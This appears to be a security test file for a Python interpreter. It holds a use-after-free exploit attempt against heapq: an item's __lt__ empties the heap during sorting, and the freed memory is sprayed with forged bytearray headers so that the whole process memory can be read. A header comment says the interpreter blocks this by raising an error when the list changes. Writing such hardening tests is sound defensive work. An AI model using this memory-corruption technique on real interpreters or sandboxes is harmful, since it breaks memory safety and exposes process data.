# Tries: a board program whose items empty their heap while heapq puts it in order: freed memory, filled with objects of its own making, would be read as items and give a view of the whole process.
# Ends: the interpreter compares the list before and after each __lt__(); a change is an error.
### ATTACK
import gc
import struct

import heapq

kept, seen, ours = [], [], []


def view(address, size):
    """An array as it lies in memory (type, kind, length, address), and where these words lie."""
    words = bytearray(struct.pack("<IIII", id(bytearray), 1, size, address))
    ours.append(words)
    return id(words) + 16


false = struct.pack("<I", view(0x08048000, 64))


def fill(*sizes):
    gc.collect()
    kept.append([bytearray(false * size) for size in sizes for _ in range(20)])
    del kept[:-3]


def look(one):
    if type(one) is bytearray:
        seen.append(bytes(one[:64]))


class Item:
    def __lt__(self, other):
        look(other)
        heap.clear()
        fill(16, 64)
        return True


for use in (
    lambda: heapq.heappush(heap, Item()),
    lambda: heapq.heappop(heap),
    lambda: heapq.heapify(heap),
):
    heap = [Item() for _ in range(64)]
    try:
        use()
    except RuntimeError:
        pass
if seen:
    print("reads the process", seen[0])
kept = seen = heap = None
### END
### BASE
